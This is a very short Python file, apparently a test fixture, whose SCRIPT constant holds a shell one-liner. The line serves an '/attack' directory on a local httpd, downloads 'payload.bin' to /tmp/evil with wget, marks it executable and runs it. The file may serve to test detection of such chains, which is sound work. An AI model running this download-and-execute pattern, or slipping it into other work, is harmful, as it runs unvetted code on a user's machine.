"""A program downloaded."""

ROW = "new file"
REASON = "added"
SCRIPT = r"""httpd -p 127.0.0.1:8080 -h /attack; wget -q -O /tmp/evil http://127.0.0.1:8080/payload.bin; chmod 755 /tmp/evil; /tmp/evil $TAG"""
